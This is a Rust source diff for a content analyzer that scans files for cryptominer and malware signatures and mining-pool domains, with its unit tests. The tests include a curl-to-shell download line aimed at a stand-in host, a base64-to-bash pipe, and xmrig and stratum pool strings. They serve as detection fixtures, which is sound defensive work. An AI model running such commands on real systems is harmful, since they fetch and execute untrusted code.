@@ -1,0 +1,368 @@
+//! Content analyzer: every regular file's bytes go through ONE Aho-Corasick automaton that
+//! holds every literal signature and every pool domain. Literals that are not enough on
+//! their own carry a `confirm` regex, run only on the line around a hit. The scan streams
+//! over the walker's chunks: a window of `max_literal_len + 256` bytes is carried from one
+//! chunk to the next, so a match that straddles a chunk boundary is found exactly once, and
+//! regex confirmation sees up to 256 bytes either side of the hit.
+//!
+//! Memory per file is bounded: one hit (the first) per signature is kept.
+
+use super::{Analyzer, FileCtx, Signal, SignalKind, Subject};
+use crate::signatures::{PatternRef, Signatures};
+use std::sync::Arc;
+
+/// Context kept either side of a hit for confirmation and excerpts.
+const CTX: usize = 256;
+
+/// A hit of one pattern key in the current file.
+#[derive(Debug, Clone)]
+struct Hit {
+    key: PatternRef,
+    kind: SignalKind,
+    signature: String,
+    offset: u64,
+    excerpt: String,
+}
+
+/// Streaming matcher state for one file; reusable across files.
+pub struct Matcher {
+    sigs: Arc<Signatures>,
+    buf: Vec<u8>,
+    /// Absolute file offset of `buf[0]`.
+    base: u64,
+    /// Index in `buf` from which match starts have not been handled yet.
+    from: usize,
+    is_binary: bool,
+    hits: Vec<Hit>,
+    /// Port signals derived from `host:port` after pool domains.
+    ports: Vec<Hit>,
+}
+
+impl Matcher {
+    pub fn new(sigs: Arc<Signatures>) -> Matcher {
+        Matcher {
+            sigs,
+            buf: Vec::new(),
+            base: 0,
+            from: 0,
+            is_binary: false,
+            hits: Vec::new(),
+            ports: Vec::new(),
+        }
+    }
+
+    /// Start a new file.
+    pub fn reset(&mut self, is_binary: bool) {
+        self.buf.clear();
+        self.base = 0;
+        self.from = 0;
+        self.is_binary = is_binary;
+        self.hits.clear();
+        self.ports.clear();
+    }
+
+    fn keep(&self) -> usize {
+        self.sigs.max_literal_len + CTX
+    }
+
+    /// Feed the next bytes of the file.
+    pub fn feed(&mut self, data: &[u8]) {
+        self.buf.extend_from_slice(data);
+        let keep = self.keep();
+        if self.buf.len() > keep + self.from {
+            let limit = self.buf.len() - keep;
+            self.process(limit);
+            let drop = limit.saturating_sub(CTX);
+            self.buf.drain(..drop);
+            self.base += drop as u64;
+            self.from = limit - drop;
+        }
+    }
+
+    /// The file ended: handle what is left.
+    pub fn finish(&mut self) {
+        let limit = self.buf.len();
+        if limit > self.from {
+            self.process(limit);
+        }
+        self.from = limit;
+    }
+
+    /// Handle every match that starts in `buf[from..limit]`.
+    fn process(&mut self, limit: usize) {
+        let sigs = Arc::clone(&self.sigs);
+        let end = (limit + sigs.max_literal_len).min(self.buf.len());
+        let mut found: Vec<(PatternRef, usize, usize)> = Vec::new();
+        {
+            let hay = &self.buf[self.from..end];
+            let mut state = aho_corasick::automaton::OverlappingState::start();
+            loop {
+                sigs.automaton.find_overlapping(hay, &mut state);
+                let Some(m) = state.get_match() else { break };
+                let s = self.from + m.start();
+                if s < limit {
+                    found.push((
+                        sigs.patterns[m.pattern().as_usize()],
+                        s,
+                        self.from + m.end(),
+                    ));
+                }
+            }
+        }
+        found.sort_by_key(|f| f.1);
+        for (key, s, e) in found {
+            if self.hits.iter().any(|h| h.key == key) {
+                continue;
+            }
+            if let Some(hit) = self.check(&sigs, key, s, e) {
+                self.hits.push(hit);
+            }
+        }
+        self.from = limit;
+    }
+
+    fn check(&mut self, sigs: &Signatures, key: PatternRef, s: usize, e: usize) -> Option<Hit> {
+        let buf = &self.buf;
+        match key {
+            PatternRef::String(i) => {
+                let sig = &sigs.strings[i];
+                if sig.binary_only && !self.is_binary {
+                    return None;
+                }
+                let excerpt = match &sig.confirm {
+                    Some(re) => {
+                        let lo = buf[..s]
+                            .iter()
+                            .rposition(|&b| b == b'\n')
+                            .map(|p| p + 1)
+                            .unwrap_or(0)
+                            .max(s.saturating_sub(CTX));
+                        let hi = buf[e..]
+                            .iter()
+                            .position(|&b| b == b'\n')
+                            .map(|p| p + e)
+                            .unwrap_or(buf.len())
+                            .min(e + CTX);
+                        let m = re.find(&buf[lo..hi])?;
+                        crate::findings::excerpt(m.as_bytes(), 160)
+                    }
+                    None => super::line_excerpt(buf, s, e, 60),
+                };
+                Some(Hit {
+                    key,
+                    kind: SignalKind::Literal {
+                        category: sig.category,
+                        strength: sig.strength,
+                    },
+                    signature: sig.id.clone(),
+                    offset: self.base + s as u64,
+                    excerpt,
+                })
+            }
+            PatternRef::Domain(i) => {
+                let hostch = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
+                if s > 0 && hostch(buf[s - 1]) {
+                    return None;
+                }
+                if e < buf.len() && hostch(buf[e]) {
+                    return None;
+                }
+                if e + 1 < buf.len() && buf[e] == b'.' && buf[e + 1].is_ascii_alphanumeric() {
+                    return None;
+                }
+                let hs = buf[..s]
+                    .iter()
+                    .rposition(|&b| !(hostch(b) || b == b'.'))
+                    .map(|p| p + 1)
+                    .unwrap_or(0)
+                    .max(s.saturating_sub(64));
+                let mut he = e;
+                let mut port = None;
+                if he < buf.len() && buf[he] == b':' {
+                    let digits = buf[he + 1..]
+                        .iter()
+                        .take(5)
+                        .take_while(|b| b.is_ascii_digit())
+                        .count();
+                    if digits > 0 {
+                        port = std::str::from_utf8(&buf[he + 1..he + 1 + digits])
+                            .ok()
+                            .and_then(|p| p.parse::<u16>().ok());
+                        he += 1 + digits;
+                    }
+                }
+                let excerpt = crate::findings::excerpt(&buf[hs..he], 120);
+                if let Some(p) = port.filter(|p| sigs.ports.contains(p)) {
+                    self.ports.push(Hit {
+                        key,
+                        kind: SignalKind::PoolPort,
+                        signature: format!("pool-port:{p}"),
+                        offset: self.base + e as u64,
+                        excerpt: excerpt.clone(),
+                    });
+                }
+                Some(Hit {
+                    key,
+                    kind: SignalKind::PoolDomain,
+                    signature: format!("pool-domain:{}", sigs.domains[i].domain),
+                    offset: self.base + hs as u64,
+                    excerpt,
+                })
+            }
+        }
+    }
+
+    /// The signals found in the file so far (call after [`Matcher::finish`]).
+    pub fn signals(&self, subject: &Subject) -> impl Iterator<Item = Signal> + '_ {
+        let subject = subject.clone();
+        self.hits
+            .iter()
+            .chain(self.ports.iter())
+            .map(move |h| Signal {
+                subject: subject.clone(),
+                kind: h.kind,
+                signature: h.signature.clone(),
+                offset: Some(h.offset),
+                excerpt: h.excerpt.clone(),
+            })
+    }
+}
+
+/// Scan one in-memory text (a command line, an env value, a history step) with the same
+/// automaton and confirmation as files.
+pub fn scan_text(sigs: &Arc<Signatures>, text: &str, subject: &Subject) -> Vec<Signal> {
+    let mut m = Matcher::new(Arc::clone(sigs));
+    m.reset(false);
+    m.feed(text.as_bytes());
+    m.finish();
+    m.signals(subject).collect()
+}
+
+/// The content analyzer: wants every regular file with content.
+pub struct ContentAnalyzer {
+    matcher: Matcher,
+}
+
+impl ContentAnalyzer {
+    pub fn new(sigs: Arc<Signatures>) -> Self {
+        ContentAnalyzer {
+            matcher: Matcher::new(sigs),
+        }
+    }
+}
+
+impl Analyzer for ContentAnalyzer {
+    fn name(&self) -> &'static str {
+        "content"
+    }
+    fn file_start(&mut self, file: &FileCtx) -> bool {
+        if file.head.is_empty() {
+            return false;
+        }
+        self.matcher.reset(file.is_binary());
+        true
+    }
+    fn file_chunk(&mut self, data: &[u8], _offset: u64) {
+        self.matcher.feed(data);
+    }
+    fn file_end(&mut self, file: &FileCtx, _truncated: bool, out: &mut Vec<Signal>) {
+        if file.head.is_empty() {
+            return;
+        }
+        self.matcher.finish();
+        out.extend(self.matcher.signals(&file.subject()));
+        self.matcher.reset(false);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sigs() -> Arc<Signatures> {
+        Arc::new(Signatures::embedded().unwrap())
+    }
+
+    fn run(data: &[u8], chunk: usize, binary: bool) -> Vec<(String, u64, String)> {
+        let mut m = Matcher::new(sigs());
+        m.reset(binary);
+        for c in data.chunks(chunk.max(1)) {
+            m.feed(c);
+        }
+        m.finish();
+        let subj = Subject::History { step: 0 };
+        let mut v: Vec<_> = m
+            .signals(&subj)
+            .map(|s| (s.signature, s.offset.unwrap(), s.excerpt))
+            .collect();
+        v.sort();
+        v
+    }
+
+    #[test]
+    fn finds_literals_across_chunk_boundaries_at_every_split() {
+        let mut data = vec![b'a'; 3000];
+        data.extend_from_slice(b"\nUsage: xmrig [OPTIONS]\n");
+        data.extend(std::iter::repeat_n(b'b', 500));
+        data.extend_from_slice(b" url stratum+tcp://pool.minexmr.com:4444 ");
+        let whole = run(&data, data.len(), false);
+        let ids: Vec<&str> = whole.iter().map(|h| h.0.as_str()).collect();
+        assert_eq!(
+            ids,
+            [
+                "pool-domain:minexmr.com",
+                "pool-port:4444",
+                "stratum-tcp-url",
+                "xmrig-name",
+                "xmrig-usage"
+            ]
+        );
+        for chunk in [1, 7, 64, 300, 3010, 3020] {
+            assert_eq!(run(&data, chunk, false), whole, "chunk size {chunk}");
+        }
+        let usage = whole.iter().find(|h| h.0 == "xmrig-usage").unwrap();
+        assert_eq!(usage.1, 3001);
+        let dom = whole
+            .iter()
+            .find(|h| h.0.starts_with("pool-domain"))
+            .unwrap();
+        assert_eq!(dom.2, "pool.minexmr.com:4444");
+    }
+
+    #[test]
+    fn confirmation_regex_decides() {
+        let hit = run(
+            b"#!/bin/sh\ncurl -fsSL http://x.example/a.sh | sh\n",
+            5,
+            false,
+        );
+        assert!(hit.iter().any(|h| h.0 == "download-pipe-shell"), "{hit:?}");
+        let miss = run(
+            b"#!/bin/sh\ncat README | sha256sum\nls | sh_helper\n",
+            5,
+            false,
+        );
+        assert!(
+            !miss.iter().any(|h| h.0 == "download-pipe-shell"),
+            "{miss:?}"
+        );
+        let b64 = run(b"echo ZWNobyBoaQ== | base64 -d | bash", 4096, false);
+        assert!(b64.iter().any(|h| h.0 == "base64-pipe-shell"), "{b64:?}");
+    }
+
+    #[test]
+    fn domains_need_label_boundaries_and_binary_only_sigs_need_binaries() {
+        let miss = run(b"notminexmr.com minexmr.com.example.org", 4096, false);
+        assert!(miss.is_empty(), "{miss:?}");
+        let hit = run(b"host=xmr-eu1.nanopool.org", 4096, false);
+        assert_eq!(hit[0].0, "pool-domain:nanopool.org");
+        assert!(run(b"UPX! in a text file", 4096, false).is_empty());
+        assert_eq!(run(b"UPX! in a binary", 4096, true)[0].0, "upx-marker");
+    }
+
+    #[test]
+    fn clean_text_has_no_hits() {
+        let text = b"#!/bin/sh\nset -e\napt-get update && apt-get install -y nginx\nexec nginx -g 'daemon off;'\n";
+        assert!(run(text, 16, false).is_empty());
+    }
+}
